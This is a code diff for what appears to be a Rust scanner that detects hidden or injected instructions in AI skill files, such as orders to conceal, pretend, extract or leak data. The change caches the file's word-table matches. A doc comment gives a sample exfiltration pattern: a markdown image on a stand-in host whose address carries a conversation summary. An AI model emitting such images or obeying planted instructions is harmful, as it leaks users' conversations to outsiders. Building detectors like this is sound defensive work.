@@ -21,7 +21,7 @@ use crate::tree::skill_text::SkillText;
 use clause::{Introduction, Lines};
 pub(crate) use grammar::Act;
 use grammar::Class;
-use lexicon::{ANY_LANGUAGE, Hit, LEXICON};
+use lexicon::{ANY_LANGUAGE, Hit, LEXICON, ListedWords};
 use orders::{Clause, MAX_EFFORT, Order, addresses};
 
 /// The kind of place in which an instruction is.
@@ -64,7 +64,7 @@ pub(crate) fn speech(text: &SkillText<'_>) -> Vec<Speech> {
     }
     let mut read = 0;
     let file = FileTraits::of(text);
-    for at in LEXICON.triggers(text.text) {
+    for at in file.words().triggers.iter().copied() {
         if at < read {
             continue;
         }
@@ -103,7 +103,7 @@ pub(crate) fn speech(text: &SkillText<'_>) -> Vec<Speech> {
 /// Returns the byte ranges of images that send data of the conversation away. The address of such
 /// an image has a placeholder for the data, as in `![](https://a.invalid/?d=<summary of the
 /// conversation>)`. A client that shows the image sends the data.
-fn leaking_images(text: &SkillText<'_>, file: &FileTraits) -> Vec<Range<usize>> {
+fn leaking_images(text: &SkillText<'_>, file: &FileTraits<'_>) -> Vec<Range<usize>> {
     let images = text.text.match_indices("](http").take(MAX_STYLES);
     let leaks = images.filter_map(|(close, _)| {
         let low = floor_char_boundary(text.text, close.saturating_sub(MAX_LINE));
@@ -134,7 +134,7 @@ fn takes_up(placeholder: &str) -> bool {
 
 /// Returns true if the author only mentions the text at a byte and does not mean it. Such a text is
 /// in code or in quotation marks, or words before it negate it or introduce it as an example.
-fn is_mentioned(text: &SkillText<'_>, file: &FileTraits, at: usize) -> bool {
+fn is_mentioned(text: &SkillText<'_>, file: &FileTraits<'_>, at: usize) -> bool {
     let span = text.span_at(at).filter(|_| text.is_markdown);
     let is_code = span.is_some_and(|span| match span.kind {
         SpanKind::Block => is_program_block(text, span),
@@ -144,13 +144,14 @@ fn is_mentioned(text: &SkillText<'_>, file: &FileTraits, at: usize) -> bool {
         return true;
     };
     let clause = clause::around(text.text, &within, at, lines);
-    let hits = LEXICON.words(text.text, clause.start..at);
+    let hits: Vec<Hit> = file.words().within(&(clause.start..at)).cloned().collect();
     let negates = |hit: &Hit| matches!(hit.class, Class::Not | Class::Dont | Class::Speaks);
     let languages = lexicon::languages(&hits);
     let mut languages = languages.into_iter().chain([lexicon::ENGLISH]);
     hits.iter().any(negates)
         || clause::is_quoted(text.text, &within, at, lines)
-        || languages.any(|language| is_led(text, &within, &clause, language, Act::Send, lines))
+        || languages
+            .any(|language| is_led(text, file, &within, &clause, (language, Act::Send), lines))
 }
 
 /// The minimum number of words of an invisible text that is reported. Shorter texts are often only
@@ -189,10 +190,11 @@ fn unseen_texts(text: &SkillText<'_>) -> Vec<Range<usize>> {
 /// function is for texts that have no position in a file, such as decoded texts.
 pub(crate) fn has_order(text: &str) -> bool {
     let whole = 0..text.len();
-    LEXICON.triggers(text).into_iter().any(|at| {
-        let clause = clause::around(text, &whole, at, Lines::Prose);
+    let listed = LEXICON.read(text);
+    listed.triggers.iter().any(|at| {
+        let clause = clause::around(text, &whole, *at, Lines::Prose);
         let (sentence, around) = sentences(text, &whole, &clause);
-        let hits = words(text, &around);
+        let hits = words(text, &listed, &around);
         lexicon::languages(&hits).into_iter().any(|language| {
             let clause = Clause {
                 text,
@@ -211,8 +213,8 @@ pub(crate) fn has_order(text: &str) -> bool {
 
 /// Returns the words of the word tables that occur in a range of a text, and the addresses in this
 /// range, in the order of the text.
-fn words(text: &str, within: &Range<usize>) -> Vec<Hit> {
-    let mut hits = LEXICON.words(text, within.clone());
+fn words(text: &str, listed: &ListedWords, within: &Range<usize>) -> Vec<Hit> {
+    let mut hits: Vec<Hit> = listed.within(within).cloned().collect();
     hits.extend(addresses(text, within));
     crate::sort::by_key(&mut hits, |hit| hit.bytes.start);
     hits
@@ -230,7 +232,7 @@ fn orders(
     within: &Range<usize>,
     clause: Range<usize>,
     lines: Lines,
-    file: &FileTraits,
+    file: &FileTraits<'_>,
 ) -> Vec<Speech> {
     let whole = text.text;
     let block = text
@@ -245,7 +247,7 @@ fn orders(
         Act::SetAside | Act::Conceal | Act::Pretend => true,
         _ => text.is_markdown || !file.is_data,
     };
-    let own = LEXICON.words(whole, clause.clone());
+    let own: Vec<Hit> = file.words().within(&clause).cloned().collect();
     let alone = Clause {
         text: whole,
         bytes: clause.clone(),
@@ -260,13 +262,14 @@ fn orders(
         return Vec::new();
     }
     let (sentence, around) = sentences(whole, within, &clause);
-    let mut hits = words(whole, &around);
+    let mut hits = words(whole, file.words(), &around);
     hits.retain(|hit| {
         let is_code = !in_block && is_in_code(text, hit.bytes.start);
         let in_address = || hit.class != Class::Address && is_in_address(whole, hit.bytes.start);
         (!is_code || is_named(hit.class)) && !in_address()
     });
-    let has_read = |until: usize, classes: &[Class]| has_read_before(text, within, until, classes);
+    let has_read =
+        |until: usize, classes: &[Class]| has_read_before(text, file, within, until, classes);
     let mut found: Vec<Speech> = Vec::new();
     for language in lexicon::languages(&hits) {
         for part in parts(&hits, language, &clause) {
@@ -317,7 +320,7 @@ fn orders(
                     || is_title(text, start) && !matches!(one.act, Act::SetAside | Act::Conceal)
                     || is_definition(text, &one.bytes)
                     || one.act != Act::Extract && clause::is_quoted(whole, within, outside, quotes)
-                    || is_led(text, within, &part, language, one.act, lines)
+                    || is_led(text, file, within, &part, (language, one.act), lines)
                 {
                     continue;
                 }
@@ -326,7 +329,7 @@ fn orders(
                     || place == OrderPlace::Hidden
                     || one.act != Act::Unasked
                         && (place == OrderPlace::Description
-                            || is_near(whole, within, &one.bytes, &GRAVE));
+                            || is_near(whole, file, within, &one.bytes, &GRAVE));
                 if !is_sure && one.act != Act::Unasked {
                     continue;
                 }
@@ -445,12 +448,13 @@ const MAX_BEFORE: usize = 700;
 /// data. Only data of the given classes counts, such as passwords.
 fn has_read_before(
     text: &SkillText<'_>,
+    file: &FileTraits<'_>,
     within: &Range<usize>,
     until: usize,
     classes: &[Class],
 ) -> bool {
     let start = floor_char_boundary(text.text, until.saturating_sub(MAX_BEFORE));
-    let hits = LEXICON.words(text.text, start.max(within.start)..until);
+    let hits: Vec<&Hit> = (file.words().within(&(start.max(within.start)..until))).collect();
     let reads = |loot: &Hit| {
         hits.iter().any(|hit| {
             hit.class == Class::Read
@@ -478,10 +482,17 @@ const GRAVE: [Class; 5] = [
 ];
 
 /// Returns true if a word of one of these classes is near an instruction.
-fn is_near(text: &str, within: &Range<usize>, order: &Range<usize>, classes: &[Class]) -> bool {
+fn is_near(
+    text: &str,
+    file: &FileTraits<'_>,
+    within: &Range<usize>,
+    order: &Range<usize>,
+    classes: &[Class],
+) -> bool {
     let start = floor_char_boundary(text, order.start.saturating_sub(MAX_NEAR));
     let end = floor_char_boundary(text, order.end + MAX_NEAR);
-    let hits = words(text, &(start.max(within.start)..end.min(within.end)));
+    let near = start.max(within.start)..end.min(within.end);
+    let hits = words(text, file.words(), &near);
     hits.iter().any(|hit| {
         classes.contains(&hit.class)
             && (hit.bytes.end <= order.start || hit.bytes.start >= order.end)
@@ -561,10 +572,10 @@ fn is_named(class: Class) -> bool {
 /// Returns true if the text before a clause negates the clause, or marks the clause as an example.
 fn is_led(
     text: &SkillText<'_>,
+    file: &FileTraits<'_>,
     within: &Range<usize>,
     part: &Range<usize>,
-    language: u8,
-    act: Act,
+    (language, act): (u8, Act),
     lines: Lines,
 ) -> bool {
     let whole = text.text;
@@ -584,7 +595,7 @@ fn is_led(
                 Introduction::Sentence(bytes) => (bytes, false),
                 Introduction::Heading(bytes) => (bytes, true),
             };
-            let hits = LEXICON.words(whole, bytes.clone());
+            let mut hits = file.words().within(bytes);
             let introduction = &whole[bytes.clone()];
             // The text introduces a table or list of options.
             if act == Act::Unasked && (introduction.contains("--") || introduction.contains("`-")) {
@@ -596,17 +607,19 @@ fn is_led(
                 .ends_with([':', '：']);
             let is_short = introduction.len() <= 60 || is_heading;
             // A heading may be in English although the text below it is in another language.
-            hits.iter()
-                .filter(|hit| hit.language == language || hit.language == lexicon::ENGLISH)
-                .any(|hit| match hit.class {
-                    Class::Speaks | Class::After => true,
-                    Class::Not => {
-                        act != Act::Conceal
-                            && is_short
-                            && (ends || is_heading || bytes.end <= part.start)
+            hits.any(|hit| {
+                let is_read = hit.language == language || hit.language == lexicon::ENGLISH;
+                is_read
+                    && match hit.class {
+                        Class::Speaks | Class::After => true,
+                        Class::Not => {
+                            act != Act::Conceal
+                                && is_short
+                                && (ends || is_heading || bytes.end <= part.start)
+                        }
+                        _ => false,
                     }
-                    _ => false,
-                })
+            })
         })
 }
 
@@ -615,7 +628,7 @@ fn is_led(
 /// hosts nor models read the section.
 fn region(
     text: &SkillText<'_>,
-    file: &FileTraits,
+    file: &FileTraits<'_>,
     at: usize,
 ) -> Option<(OrderPlace, Range<usize>, Lines)> {
     if !text.is_markdown {
@@ -691,7 +704,7 @@ fn place_of(
     text: &SkillText<'_>,
     place: OrderPlace,
     verb: usize,
-    file: &FileTraits,
+    file: &FileTraits<'_>,
 ) -> Option<OrderPlace> {
     if text.is_markdown || !file.is_program {
         return Some(place);
@@ -721,23 +734,33 @@ fn place_of(
 /// The maximum distance, in bytes, from an instruction to the start or the end of its line.
 const MAX_LINE: usize = 2_000;
 
-/// Facts about a file that are computed once for all of its sentences: the kind of the file, and
-/// its comments.
-struct FileTraits {
+/// Facts about a file that are computed once for all of its sentences: the kind of the file, its
+/// listed words, and its comments.
+struct FileTraits<'t> {
+    text: &'t str,
     is_program: bool,
     is_data: bool,
+    /// The words of the word tables in the text. They are searched for when they are needed for the
+    /// first time.
+    words: OnceCell<ListedWords>,
     /// The comments that span several lines. They are searched for when they are needed for the
     /// first time.
     blocks: OnceCell<Blocks>,
 }
 
-impl FileTraits {
-    fn of(text: &SkillText<'_>) -> Self {
+impl<'t> FileTraits<'t> {
+    fn of(text: &SkillText<'t>) -> Self {
         Self {
+            text: text.text,
             is_program: is_program(&text.path),
             is_data: is_data(&text.path),
+            words: OnceCell::new(),
             blocks: OnceCell::new(),
         }
+    }
+
+    fn words(&self) -> &ListedWords {
+        self.words.get_or_init(|| LEXICON.read(self.text))
     }
 }
 
